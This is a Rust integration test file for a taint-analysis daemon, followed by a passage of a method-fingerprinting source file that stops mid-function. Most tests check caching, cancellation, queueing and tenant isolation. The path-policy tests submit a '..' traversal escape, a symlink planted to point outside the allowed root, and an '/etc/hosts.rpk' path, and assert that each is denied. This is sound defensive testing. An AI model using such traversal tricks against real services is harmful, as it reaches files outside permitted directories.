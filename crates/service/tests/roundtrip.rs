//! End-to-end daemon round trips over a real TCP socket: cold→warm
//! cache sharing between jobs, platform-snapshot boot (including the
//! corrupt-file fallback), deadline aborts, cross-connection
//! cancellation, stats, clean shutdown, prompt Unix-socket unlink
//! on shutdown while jobs are still draining, and external-app serving
//! under the `--allow-apps` path policy.

use flowdroid_service::{
    AnalyzeOptions, AnalyzeOutcome, AnalyzeRequest, Client, Daemon, DaemonOptions, Listen,
    Priority, Request, Submitted,
};
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// Binds a daemon on an ephemeral local port, runs its accept loop on a
/// background thread, and returns the resolved address plus the join
/// handle (joined by each test to prove a leak-free shutdown).
fn spawn_daemon(cache: Option<PathBuf>) -> (String, std::thread::JoinHandle<()>) {
    spawn_daemon_with(cache, None)
}

fn spawn_daemon_with(
    cache: Option<PathBuf>,
    snapshot: Option<PathBuf>,
) -> (String, std::thread::JoinHandle<()>) {
    spawn_daemon_capped(cache, snapshot, 2, 0)
}

/// Like [`spawn_daemon_with`] but with explicit worker count and queue
/// cap (0 = unbounded), for the backpressure and priority tests.
fn spawn_daemon_capped(
    cache: Option<PathBuf>,
    snapshot: Option<PathBuf>,
    workers: usize,
    queue_cap: usize,
) -> (String, std::thread::JoinHandle<()>) {
    let daemon = Daemon::bind(DaemonOptions {
        listen: Listen::parse("127.0.0.1:0"),
        workers,
        queue_cap,
        summary_cache: cache,
        platform_snapshot: snapshot,
        allow_apps: Vec::new(),
    })
    .expect("bind daemon");
    let addr = daemon.local_addr().to_string();
    let handle = std::thread::spawn(move || daemon.run().expect("daemon run"));
    (addr, handle)
}

fn temp_cache(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("flowdroid-svc-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

#[test]
fn cold_then_warm_job_shares_summary_cache() {
    let cache = temp_cache("coldwarm");
    let (addr, daemon) = spawn_daemon(Some(cache.clone()));
    let mut c = Client::connect(&addr).expect("connect");

    let (id1, cold) = c.analyze("insecurebank", None, None, None).expect("cold job");
    assert_eq!(id1, 1);
    assert!(!cold.aborted);
    assert_eq!(cold.summary_hits, 0, "first job starts with an empty store");
    assert!(cold.summary_recorded > 0, "first job stages summaries");
    assert!(cold.leaks > 0, "insecurebank has known leaks");

    let (_, warm) = c.analyze("insecurebank", None, None, None).expect("warm job");
    assert!(!warm.aborted);
    assert!(warm.summary_hits > 0, "second job replays the first job's flushed summaries");
    assert_eq!(warm.report, cold.report, "cache replay must not change the report");
    assert_eq!(cold.callgraph_cache_misses, 1, "first job builds its setup cold");
    assert_eq!(cold.callgraph_cache_hits, 0);
    assert_eq!(warm.callgraph_cache_hits, 1, "second job replays the cached callgraph");
    assert_eq!(warm.callgraph_cache_misses, 0);

    let mut c2 = Client::connect(&addr).expect("second connection");
    let stats = c2.stats().expect("stats");
    assert_eq!(stats.u64_field("completed"), Some(2));
    assert!(stats.u64_field("summary_hits").unwrap() > 0);
    assert_eq!(stats.u64_field("callgraph_cache_hits"), Some(1));
    assert_eq!(stats.u64_field("callgraph_cache_misses"), Some(1));
    assert_eq!(stats.u64_field("callgraph_cache_entries"), Some(1));
    assert_eq!(stats.get("jobs").unwrap().as_arr().unwrap().len(), 2);

    c2.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_dir_all(&cache);
}

#[test]
fn daemon_boots_from_snapshot_and_skips_unreachable_bodies() {
    let snap = std::env::temp_dir()
        .join(format!("flowdroid-svc-snap-{}.fdps", std::process::id()));
    flowdroid_android::save_snapshot(&snap, &flowdroid_android::build_snapshot())
        .expect("save snapshot");
    let (addr, daemon) = spawn_daemon_with(None, Some(snap.clone()));
    let mut c = Client::connect(&addr).expect("connect");

    let (_, r) = c.analyze("insecurebank", None, None, None).expect("job");
    assert!(!r.aborted);
    assert!(r.bodies_materialized > 0, "the lazy frontend decodes reached bodies");

    // The daemon's report must match a standalone eager run exactly.
    let job = flowdroid_bench::find_job("insecurebank").expect("corpus job");
    let eager =
        flowdroid_bench::run_single(&job, &flowdroid_core::InfoflowConfig::default());
    assert_eq!(r.report, eager.report, "lazy daemon run must match eager run");

    // An app with helper classes the callgraph never reaches: those
    // bodies must stay undecoded.
    let (_, r2) =
        c.analyze("securibench/Collections/Collections5", None, None, None).expect("job 2");
    assert!(!r2.aborted);
    assert!(r2.bodies_skipped > 0, "unreachable bodies stay undecoded");

    let stats = c.stats().expect("stats");
    assert_eq!(stats.str_field("snapshot_source"), Some("file"));
    assert!(stats.u64_field("bodies_skipped").unwrap() > 0);

    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_file(&snap);
}

#[test]
fn corrupt_snapshot_falls_back_to_eager_platform_build() {
    let snap = std::env::temp_dir()
        .join(format!("flowdroid-svc-corrupt-{}.fdps", std::process::id()));
    let mut bytes =
        flowdroid_android::encode_snapshot(&flowdroid_android::build_snapshot());
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x40; // checksum mismatch at minimum
    std::fs::write(&snap, &bytes).expect("write corrupt snapshot");

    // The daemon must come up anyway (eager fallback) and serve jobs
    // with unchanged results.
    let (addr, daemon) = spawn_daemon_with(None, Some(snap.clone()));
    let mut c = Client::connect(&addr).expect("connect");
    let (_, r) = c.analyze("insecurebank", None, None, None).expect("job");
    assert!(!r.aborted);
    assert!(r.leaks > 0);

    let stats = c.stats().expect("stats");
    assert_eq!(stats.str_field("snapshot_source"), Some("built"));

    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_file(&snap);
}

#[test]
fn deadline_job_aborts_promptly_and_stages_nothing() {
    let cache = temp_cache("deadline");
    let (addr, daemon) = spawn_daemon(Some(cache.clone()));
    let mut c = Client::connect(&addr).expect("connect");

    let start = Instant::now();
    let (_, r) = c.analyze("stress/4000", Some(300), None, None).expect("deadline job");
    let elapsed = start.elapsed();
    assert!(r.aborted, "stress/4000 cannot finish in 300ms");
    assert_eq!(r.abort_reason.as_deref(), Some("deadline"));
    assert_eq!(r.summary_recorded, 0, "aborted jobs must stage no summaries");
    // Deadline plus a generous bound on one batch-check interval.
    assert!(
        elapsed < Duration::from_secs(10),
        "aborted job should return promptly, took {elapsed:?}"
    );

    // The poison check: a later *successful* job still flushes cleanly.
    let (_, ok) = c.analyze("insecurebank", None, None, None).expect("follow-up job");
    assert!(!ok.aborted);
    assert!(ok.summary_recorded > 0);

    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_dir_all(&cache);
}

#[test]
fn cancel_from_second_connection_stops_inflight_job() {
    let (addr, daemon) = spawn_daemon(None);
    let mut a = Client::connect(&addr).expect("connection a");
    let id = a.analyze_async("stress/6000", None, None, None).expect("submit");

    // From a second connection: wait until the job is running, then
    // cancel it.
    let mut b = Client::connect(&addr).expect("connection b");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let stats = b.stats().expect("stats");
        let jobs = stats.get("jobs").unwrap().as_arr().unwrap();
        let state = jobs[(id - 1) as usize].str_field("state").unwrap().to_string();
        if state != "queued" {
            break;
        }
        assert!(Instant::now() < deadline, "job never started running");
        std::thread::sleep(Duration::from_millis(10));
    }
    let ack = b.cancel(id).expect("cancel");
    assert_eq!(ack.str_field("op"), Some("cancel"));

    // Connection a now receives the aborted result.
    let result = a.read_response().expect("result line");
    assert_eq!(result.bool_field("aborted"), Some(true));
    assert_eq!(result.str_field("abort_reason"), Some("cancelled"));

    b.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

#[test]
fn cancelling_a_queued_job_skips_it_entirely() {
    let (addr, daemon) = spawn_daemon(None);
    // Two workers: saturate them with two long jobs, queue a third,
    // cancel the third before any worker reaches it.
    let mut a = Client::connect(&addr).expect("a");
    let mut b = Client::connect(&addr).expect("b");
    let mut c = Client::connect(&addr).expect("c");
    let _j1 = a.analyze_async("stress/6000", None, None, None).expect("submit 1");
    let _j2 = b.analyze_async("stress/6000", None, None, None).expect("submit 2");
    let j3 = c.analyze_async("stress/2000", None, None, None).expect("submit 3");

    let mut ctl = Client::connect(&addr).expect("control");
    ctl.cancel(j3).expect("cancel queued job");
    ctl.cancel(1).expect("cancel job 1");
    ctl.cancel(2).expect("cancel job 2");

    let r3 = c.read_response().expect("job 3 result");
    assert_eq!(r3.bool_field("aborted"), Some(true));
    assert_eq!(r3.str_field("abort_reason"), Some("cancelled"));
    assert_eq!(r3.u64_field("wall_ms"), Some(0), "a skipped job never runs");

    ctl.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

/// Shutdown must unlink the Unix socket path as soon as the queue is
/// closed — not only after the in-flight jobs drain. A daemon mid-way
/// through a long job used to leave the path on disk until the accept
/// loop returned, so supervisors polling for the socket's
/// disappearance concluded the shutdown had hung.
#[cfg(unix)]
#[test]
fn shutdown_unlinks_unix_socket_while_a_job_is_still_draining() {
    let sock = std::env::temp_dir()
        .join(format!("flowdroid-svc-unlink-{}.sock", std::process::id()));
    let daemon = Daemon::bind(DaemonOptions {
        listen: Listen::Unix(sock.clone()),
        workers: 2,
        queue_cap: 0,
        summary_cache: None,
        platform_snapshot: None,
        allow_apps: Vec::new(),
    })
    .expect("bind unix daemon");
    let addr = daemon.local_addr().to_string();
    let accept_loop = std::thread::spawn(move || daemon.run().expect("daemon run"));

    // A job long enough that its ~3s deadline, not its fixpoint, ends
    // it: the socket must vanish well before the job does.
    let mut a = Client::connect(&addr).expect("connection a");
    let id = a.analyze_async("stress/6000", Some(3000), None, None).expect("submit");

    let mut b = Client::connect(&addr).expect("connection b");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let stats = b.stats().expect("stats");
        let jobs = stats.get("jobs").unwrap().as_arr().unwrap();
        if jobs[(id - 1) as usize].str_field("state") == Some("running") {
            break;
        }
        assert!(Instant::now() < deadline, "job never started running");
        std::thread::sleep(Duration::from_millis(5));
    }

    // `shutdown` blocks its connection until the drain completes, so
    // issue it from a helper thread and watch the path from here.
    let shutdown = std::thread::spawn(move || b.shutdown().expect("shutdown"));
    let unlink_deadline = Instant::now() + Duration::from_secs(2);
    while sock.exists() {
        assert!(
            Instant::now() < unlink_deadline,
            "socket path must be unlinked while the job is still draining, \
             not after the accept loop returns"
        );
        std::thread::sleep(Duration::from_millis(5));
    }

    // The in-flight job still drains to its (deadline-aborted) result.
    let result = a.read_response().expect("result line");
    assert_eq!(result.str_field("abort_reason"), Some("deadline"));
    let ack = shutdown.join().expect("shutdown thread");
    assert_eq!(ack.str_field("op"), Some("shutdown"));
    accept_loop.join().expect("accept loop exits cleanly");
}

#[test]
fn protocol_errors_keep_the_connection_alive() {
    let (addr, daemon) = spawn_daemon(None);
    let mut c = Client::connect(&addr).expect("connect");

    let err = c
        .roundtrip(&Request::Analyze(AnalyzeRequest::new("no/such/app")))
        .expect_err("unknown app is an error");
    assert!(err.to_string().contains("unknown app"), "got: {err}");

    // Same connection still serves well-formed requests.
    let stats = c.stats().expect("stats after error");
    assert_eq!(stats.str_field("type"), Some("stats"));

    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

#[test]
fn budget_abort_reports_reason_over_the_wire() {
    let (addr, daemon) = spawn_daemon(None);
    let mut c = Client::connect(&addr).expect("connect");
    let (_, r) = c.analyze("stress/2000", None, Some(1000), None).expect("budget job");
    assert!(r.aborted);
    assert_eq!(r.abort_reason.as_deref(), Some("budget"));
    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

/// A streamed job must deliver `progress` frames before its result, and
/// the terminal result line must be byte-identical to what the same job
/// reports without streaming — streaming is observational only.
#[test]
fn streamed_job_emits_frames_and_identical_final_report() {
    let (addr, daemon) = spawn_daemon(None);

    let mut plain = Client::connect(&addr).expect("connect plain");
    let (_, baseline) = plain.analyze("insecurebank", None, None, None).expect("plain job");
    assert!(baseline.leaks > 0, "insecurebank has known leaks");

    let mut streamed = Client::connect(&addr).expect("connect streamed");
    let opts = AnalyzeOptions { stream: true, ..Default::default() };
    let mut progress_frames = 0u64;
    let mut leak_frames = 0u64;
    let outcome = streamed
        .analyze_with("insecurebank", &opts, &mut |frame| {
            match frame.str_field("type") {
                Some("progress") => {
                    progress_frames += 1;
                    assert!(frame.u64_field("job").is_some());
                }
                Some("leak") => {
                    leak_frames += 1;
                    assert!(frame.u64_field("sink_line").is_some());
                    assert!(frame.str_field("taint").is_some());
                }
                other => panic!("unexpected frame type {other:?}"),
            }
        })
        .expect("streamed job");
    let AnalyzeOutcome::Done { result, .. } = outcome else {
        panic!("unbounded queue must not reject");
    };
    assert!(progress_frames > 0, "streamed job must emit at least one progress frame");
    assert!(leak_frames > 0, "a leaky app must emit leak frames");
    assert_eq!(result.report, baseline.report, "streaming must not change the report");
    assert_eq!(result.leaks, baseline.leaks);

    // The parallel engine streams through the same hook; its report
    // stays identical too (determinism invariant).
    let mut par = Client::connect(&addr).expect("connect parallel");
    let par_opts =
        AnalyzeOptions { stream: true, taint_threads: Some(2), ..Default::default() };
    let outcome = par.analyze_with("insecurebank", &par_opts, &mut |_| {}).expect("par job");
    let AnalyzeOutcome::Done { result: par_result, .. } = outcome else {
        panic!("unbounded queue must not reject");
    };
    assert_eq!(par_result.report, baseline.report, "parallel streamed report must match");

    plain.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

/// With a finite queue cap and a single busy worker, excess submissions
/// must be refused with a typed `rejected` reply (no job id allocated),
/// and the stats line must account for every refusal.
#[test]
fn full_queue_rejects_submissions_with_backpressure() {
    let (addr, daemon) = spawn_daemon_capped(None, None, 1, 2);

    // Blast more work than worker + queue can hold. Each job carries a
    // deadline so the drain below stays fast.
    let opts = AnalyzeOptions { deadline_ms: Some(2000), ..Default::default() };
    let mut queued = Vec::new();
    let mut rejections = 0u64;
    for _ in 0..6 {
        let mut c = Client::connect(&addr).expect("connect");
        match c.submit("stress/4000", &opts).expect("submit") {
            Submitted::Queued(id) => queued.push((id, c)),
            Submitted::Rejected { queue_cap, .. } => {
                assert_eq!(queue_cap, 2, "rejected line reports the daemon's cap");
                rejections += 1;
            }
            Submitted::Denied { .. } => panic!("corpus names never hit the path policy"),
        }
    }
    assert!(rejections > 0, "6 submissions into worker=1/cap=2 must overflow");
    assert!(!queued.is_empty(), "the first submissions fit");
    // Worker slot + 2 queue slots: at most 3 can ever be in flight
    // before the first one finishes.
    assert!(queued.len() <= 4, "cap 2 + 1 running admits at most ~3, got {}", queued.len());

    for (_, mut c) in queued {
        let line = c.read_response().expect("result line");
        assert_eq!(line.str_field("type"), Some("result"));
    }

    let mut s = Client::connect(&addr).expect("stats conn");
    let stats = s.stats().expect("stats");
    assert_eq!(stats.u64_field("rejected"), Some(rejections));
    assert_eq!(stats.u64_field("queue_cap"), Some(2));

    s.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

/// Cancel storm: enqueue far more jobs than workers, cancel most of
/// them from a separate connection, and require a clean drain — every
/// submitter still gets a result line and the registry's per-state
/// counters reconcile.
#[test]
fn cancel_storm_drains_cleanly_with_reconciled_counters() {
    let (addr, daemon) = spawn_daemon(None);
    let lanes = [Priority::High, Priority::Normal, Priority::Batch];

    let mut pending = Vec::new();
    for i in 0..10 {
        let mut c = Client::connect(&addr).expect("connect");
        let opts = AnalyzeOptions {
            deadline_ms: Some(10_000),
            priority: lanes[i % lanes.len()],
            ..Default::default()
        };
        match c.submit("stress/3000", &opts).expect("submit") {
            Submitted::Queued(id) => pending.push((id, c)),
            Submitted::Rejected { .. } => panic!("unbounded queue must not reject"),
            Submitted::Denied { .. } => panic!("corpus names never hit the path policy"),
        }
    }

    // Cancel 8 of 10 across a separate connection while they queue/run.
    let mut canceller = Client::connect(&addr).expect("cancel conn");
    for (id, _) in &pending[..8] {
        let ack = canceller.cancel(*id).expect("cancel");
        assert_eq!(ack.str_field("op"), Some("cancel"));
    }

    // Every submitter — cancelled or not — still receives a result.
    let mut cancelled_aborts = 0;
    for (id, mut c) in pending {
        let line = c.read_response().expect("result line");
        assert_eq!(line.str_field("type"), Some("result"));
        assert_eq!(line.u64_field("job"), Some(id));
        if line.str_field("abort_reason") == Some("cancelled") {
            cancelled_aborts += 1;
        }
    }
    assert!(cancelled_aborts > 0, "storm must abort at least the queued victims");

    let stats = canceller.stats().expect("stats");
    assert_eq!(stats.u64_field("completed"), Some(10), "all jobs drain to done");
    assert_eq!(stats.u64_field("queue_depth"), Some(0));
    assert_eq!(stats.u64_field("running"), Some(0));
    assert_eq!(stats.u64_field("cancel_requests"), Some(8));
    assert_eq!(
        stats.u64_field("submitted_high").unwrap()
            + stats.u64_field("submitted_normal").unwrap()
            + stats.u64_field("submitted_batch").unwrap(),
        10,
        "per-lane submission counters reconcile"
    );

    canceller.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

/// With one worker pinned by a long job, a later `high` submission must
/// finish before an earlier `batch` one: the dequeue order follows the
/// priority lanes, not arrival order.
#[test]
fn high_priority_overtakes_batch_in_the_queue() {
    let (addr, daemon) = spawn_daemon_capped(None, None, 1, 0);

    // Pin the only worker.
    let mut pin = Client::connect(&addr).expect("pin conn");
    let pin_id = pin.analyze_async("stress/5000", Some(2500), None, None).expect("pin");

    // Wait until it is actually running so the next two stay queued.
    let mut s = Client::connect(&addr).expect("stats conn");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let stats = s.stats().expect("stats");
        let jobs = stats.get("jobs").unwrap().as_arr().unwrap();
        if jobs[(pin_id - 1) as usize].str_field("state") == Some("running") {
            break;
        }
        assert!(Instant::now() < deadline, "pin job never started");
        std::thread::sleep(Duration::from_millis(5));
    }

    // Batch first, high second — arrival order favors batch.
    let mut batch = Client::connect(&addr).expect("batch conn");
    let batch_opts = AnalyzeOptions {
        deadline_ms: Some(2000),
        priority: Priority::Batch,
        ..Default::default()
    };
    assert!(matches!(
        batch.submit("stress/2000", &batch_opts).expect("submit batch"),
        Submitted::Queued(_)
    ));
    let mut high = Client::connect(&addr).expect("high conn");
    let high_opts = AnalyzeOptions {
        deadline_ms: Some(2000),
        priority: Priority::High,
        ..Default::default()
    };
    assert!(matches!(
        high.submit("stress/2000", &high_opts).expect("submit high"),
        Submitted::Queued(_)
    ));

    let batch_done = std::thread::spawn(move || {
        batch.read_response().expect("batch result");
        Instant::now()
    });
    let high_done = std::thread::spawn(move || {
        high.read_response().expect("high result");
        Instant::now()
    });
    let batch_at = batch_done.join().expect("batch thread");
    let high_at = high_done.join().expect("high thread");
    assert!(high_at < batch_at, "high must complete before the earlier batch job");

    pin.read_response().expect("pin result");
    s.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

/// Jobs in different cache namespaces must not see each other's
/// summaries: a tenant's first job starts cold even when another tenant
/// has already warmed the same app in the same store directory.
/// Like [`spawn_daemon_capped`] but with an external-app allow-list.
fn spawn_daemon_allow(allow_apps: Vec<PathBuf>) -> (String, std::thread::JoinHandle<()>) {
    let daemon = Daemon::bind(DaemonOptions {
        listen: Listen::parse("127.0.0.1:0"),
        workers: 2,
        queue_cap: 0,
        summary_cache: None,
        platform_snapshot: None,
        allow_apps,
    })
    .expect("bind daemon");
    let addr = daemon.local_addr().to_string();
    let handle = std::thread::spawn(move || daemon.run().expect("daemon run"));
    (addr, handle)
}

/// The external-app round trip: an on-disk app directory and a packed
/// `.rpk` under the allow-root both analyze through the daemon with
/// reports byte-identical to a local run through the same loader, while
/// the same archive outside the root — directly, via `..`, or via a
/// symlink planted inside the root — gets the typed `denied` reply.
#[test]
fn daemon_serves_external_apps_under_path_policy() {
    let root = temp_cache("allow-root");
    let outside = temp_cache("outside-root");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(&outside).unwrap();

    // An app directory inside the root (a DroidBench app exported to
    // disk) …
    let apps = flowdroid_droidbench::all_apps();
    let button1 = apps.iter().find(|a| a.name == "Button1").unwrap();
    let app_dir = root.join("button1");
    button1.write_to_dir(&app_dir).unwrap();

    // … a packed ground-truth `.rpk` inside it, and the same bytes
    // outside it.
    let truth = flowdroid_truth::generate_corpus(7, 1);
    let field = truth.iter().find(|a| a.category == "field").unwrap();
    std::fs::write(root.join("field.rpk"), field.rpk_bytes()).unwrap();
    std::fs::write(outside.join("field.rpk"), field.rpk_bytes()).unwrap();

    let (addr, daemon) = spawn_daemon_allow(vec![root.clone()]);
    let mut c = Client::connect(&addr).expect("connect");

    // Outside the root: denied, not errored.
    let outside_rpk = outside.join("field.rpk");
    let denied = c
        .submit(outside_rpk.to_str().unwrap(), &AnalyzeOptions::default())
        .expect("submit outside path");
    assert!(matches!(denied, Submitted::Denied { .. }), "got {denied:?}");

    // A `..` escape through the root: canonicalization defeats it.
    let escape = format!(
        "{}/../{}/field.rpk",
        root.display(),
        outside.file_name().unwrap().to_str().unwrap()
    );
    assert!(matches!(
        c.submit(&escape, &AnalyzeOptions::default()).expect("submit escape"),
        Submitted::Denied { .. }
    ));

    // A symlink planted inside the root pointing outside it.
    #[cfg(unix)]
    {
        let link = root.join("sneaky.rpk");
        std::os::unix::fs::symlink(&outside_rpk, &link).unwrap();
        assert!(matches!(
            c.submit(link.to_str().unwrap(), &AnalyzeOptions::default())
                .expect("submit symlink"),
            Submitted::Denied { .. }
        ));
    }

    // Allowed paths analyze; reports match a local run through the same
    // loader (content-hashed job names make them comparable).
    let mut scratch = flowdroid_bench::shared_platform_snapshot().overlay_program();
    for path in [app_dir.clone(), root.join("field.rpk")] {
        let (_, result) =
            c.analyze(path.to_str().unwrap(), None, None, None).expect("external job");
        assert!(!result.aborted);
        let job = flowdroid_service::load_external_job(&path, &mut scratch)
            .expect("local load");
        let local = flowdroid_bench::run_single(&job, &flowdroid_core::InfoflowConfig::default());
        assert_eq!(result.report, local.report, "daemon leg must match local run");
    }
    // The generated app's manifest pins what the daemon must report.
    let (_, r) = c
        .analyze(root.join("field.rpk").to_str().unwrap(), None, None, None)
        .expect("rpk job");
    assert_eq!(r.leaks as usize, field.expected_reported);

    // A well-placed but malformed archive is an error, not a denial.
    std::fs::write(root.join("junk.rpk"), b"not an archive").unwrap();
    let err = c
        .analyze(root.join("junk.rpk").to_str().unwrap(), None, None, None)
        .expect_err("junk archive");
    assert!(err.to_string().contains("cannot load app"), "got: {err}");

    let denied_expected = if cfg!(unix) { 3 } else { 2 };
    let stats = c.stats().expect("stats");
    assert_eq!(stats.u64_field("policy_denied"), Some(denied_expected));

    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_dir_all(&root);
    let _ = std::fs::remove_dir_all(&outside);
}

/// Without `--allow-apps` every path-shaped submission is denied — the
/// closed-by-default posture.
#[test]
fn daemon_without_allow_apps_denies_all_paths() {
    let (addr, daemon) = spawn_daemon(None);
    let mut c = Client::connect(&addr).expect("connect");
    let denied =
        c.submit("/etc/hosts.rpk", &AnalyzeOptions::default()).expect("submit path");
    let Submitted::Denied { message } = denied else {
        panic!("pathless daemon must deny, got {denied:?}");
    };
    assert!(message.contains("--allow-apps"), "got: {message}");
    // Corpus jobs still work on the same connection.
    let (_, r) = c.analyze("droidbench/Callbacks/Button1", None, None, None).expect("corpus job");
    assert_eq!(r.leaks, 1);
    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
}

#[test]
fn cache_namespaces_isolate_tenants_over_the_wire() {
    let cache = temp_cache("tenants");
    let (addr, daemon) = spawn_daemon(Some(cache.clone()));
    let mut c = Client::connect(&addr).expect("connect");

    let tenant = |ns: &str| AnalyzeOptions { namespace: ns.to_string(), ..Default::default() };
    let run = |c: &mut Client, opts: &AnalyzeOptions| match c
        .analyze_with("insecurebank", opts, &mut |_| {})
        .expect("job")
    {
        AnalyzeOutcome::Done { result, .. } => result,
        AnalyzeOutcome::Rejected { .. } => panic!("unbounded queue must not reject"),
        AnalyzeOutcome::Denied { .. } => panic!("corpus names never hit the path policy"),
    };

    let a_cold = run(&mut c, &tenant("tenant-a"));
    assert_eq!(a_cold.summary_hits, 0, "tenant-a starts cold");
    assert!(a_cold.summary_recorded > 0);
    let a_warm = run(&mut c, &tenant("tenant-a"));
    assert!(a_warm.summary_hits > 0, "tenant-a warms up its own namespace");

    let b_cold = run(&mut c, &tenant("tenant-b"));
    assert_eq!(b_cold.summary_hits, 0, "tenant-b must not see tenant-a's summaries");
    assert_eq!(b_cold.report, a_cold.report, "isolation must not change results");

    c.shutdown().expect("shutdown");
    daemon.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_dir_all(&cache);
}
