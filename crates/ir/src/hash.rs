//! Stable structural fingerprints of method bodies.
//!
//! The persistent summary store (`crates/summaries`) invalidates cached
//! end summaries when a method's code changes. Arena ids ([`MethodId`],
//! [`FieldId`], [`ClassId`], [`Symbol`], …) are assigned in load order
//! and therefore differ between processes analyzing different apps, so
//! the fingerprint must resolve every id to its *name* before hashing:
//! two processes that load the same platform stub — possibly at
//! different arena indices — must compute the same fingerprint.
//!
//! The hash covers the full signature, the method flags, the local
//! declarations (name + type) and every statement with all referenced
//! entities resolved to strings (field class + name, callee full
//! signature, class and type names, string-constant contents). Locals
//! appear by raw slot index, which is safe because two bodies with
//! equal fingerprints declare identical local tables. Source line
//! numbers are included: over-invalidation is always sound, and the
//! platform stubs the cache targets are byte-identical across apps.

use crate::class::{MethodId, MethodRef};
use crate::fxhash::FxHasher;
use crate::program::Program;
use crate::stmt::{Cond, Constant, InvokeExpr, Operand, Place, Rvalue, Stmt};
use std::hash::Hasher;

/// Accumulates unambiguous, self-delimiting input into an [`FxHasher`].
struct Sink {
    h: FxHasher,
}

impl Sink {
    fn new() -> Self {
        Sink { h: FxHasher::default() }
    }

    fn u8(&mut self, v: u8) {
        self.h.write_u8(v);
    }

    fn u32(&mut self, v: u32) {
        self.h.write_u32(v);
    }

    fn u64(&mut self, v: u64) {
        self.h.write_u64(v);
    }

    /// Length-prefixed so that consecutive strings cannot alias.
    fn str(&mut self, s: &str) {
        self.h.write_u32(u32::try_from(s.len()).unwrap_or(u32::MAX));
        self.h.write(s.as_bytes());
    }

    fn finish(self) -> u64 {
        self.h.finish()
    }
}

/// Computes the structural fingerprint of `method`.
///
/// Deterministic across processes and independent of arena id
/// assignment: every id is resolved to its name before hashing. Two
/// methods with the same fingerprint have (up to hash collision) the
/// same signature, flags, locals and statements.
pub fn body_fingerprint(program: &Program, method: MethodId) -> u64 {
    let m = program.method(method);
    let mut s = Sink::new();
    s.str(&program.signature(method));
    s.u8(m.is_static() as u8);
    s.u8(m.is_native() as u8);
    s.u8(m.is_abstract() as u8);
    match m.body() {
        None => s.u8(0),
        Some(body) => {
            s.u8(1);
            s.u32(body.locals().len() as u32);
            for decl in body.locals() {
                s.str(&decl.name);
                s.str(&program.type_name(&decl.ty));
            }
            s.u32(body.stmts().len() as u32);
            for (idx, stmt) in body.stmts().iter().enumerate() {
                hash_stmt(program, &mut s, stmt);
                s.u32(body.line(idx));
            }
        }
    }
    s.finish()
}

fn hash_stmt(p: &Program, s: &mut Sink, stmt: &Stmt) {
    match stmt {
        Stmt::Assign { lhs, rhs } => {
            s.u8(0);
            hash_place(p, s, lhs);
            hash_rvalue(p, s, rhs);
        }
        Stmt::Invoke { result, call } => {
            s.u8(1);
            match result {
                Some(l) => {
                    s.u8(1);
                    s.u32(l.0);
                }
                None => s.u8(0),
            }
            hash_invoke(p, s, call);
        }
        Stmt::If { cond, target } => {
            s.u8(2);
            match cond {
                Cond::Cmp(op, a, b) => {
                    s.u8(1);
                    s.u8(*op as u8);
                    hash_operand(p, s, a);
                    hash_operand(p, s, b);
                }
                Cond::Opaque => s.u8(0),
            }
            s.u32(*target as u32);
        }
        Stmt::Goto { target } => {
            s.u8(3);
            s.u32(*target as u32);
        }
        Stmt::Return { value } => {
            s.u8(4);
            match value {
                Some(v) => {
                    s.u8(1);
                    hash_operand(p, s, v);
                }
                None => s.u8(0),
            }
        }
        Stmt::Throw { value } => {
            s.u8(5);
            hash_operand(p, s, value);
        }
        Stmt::Nop => s.u8(6),
    }
}

fn hash_invoke(p: &Program, s: &mut Sink, call: &InvokeExpr) {
    s.u8(call.kind as u8);
    match call.base {
        Some(b) => {
            s.u8(1);
            s.u32(b.0);
        }
        None => s.u8(0),
    }
    hash_method_ref(p, s, &call.callee);
    s.u32(call.args.len() as u32);
    for a in &call.args {
        hash_operand(p, s, a);
    }
}

fn hash_method_ref(p: &Program, s: &mut Sink, mref: &MethodRef) {
    s.str(p.class_name(mref.class));
    s.str(p.str(mref.subsig.name));
    s.u32(mref.subsig.params.len() as u32);
    for t in &mref.subsig.params {
        s.str(&p.type_name(t));
    }
    s.str(&p.type_name(&mref.subsig.ret));
}

fn hash_place(p: &Program, s: &mut Sink, place: &Place) {
    match place {
        Place::Local(l) => {
            s.u8(0);
            s.u32(l.0);
        }
        Place::InstanceField(b, f) => {
            s.u8(1);
            s.u32(b.0);
            hash_field(p, s, *f);
        }
        Place::StaticField(f) => {
            s.u8(2);
            hash_field(p, s, *f);
        }
        Place::ArrayElem(b, i) => {
            s.u8(3);
            s.u32(b.0);
            hash_operand(p, s, i);
        }
    }
}

fn hash_field(p: &Program, s: &mut Sink, f: crate::class::FieldId) {
    let fd = p.field(f);
    s.str(p.class_name(fd.class()));
    s.str(p.str(fd.name()));
}

fn hash_operand(p: &Program, s: &mut Sink, o: &Operand) {
    match o {
        Operand::Local(l) => {
            s.u8(0);
            s.u32(l.0);
        }
        Operand::Const(c) => {
            s.u8(1);
            hash_const(p, s, c);
        }
    }
}

fn hash_const(p: &Program, s: &mut Sink, c: &Constant) {
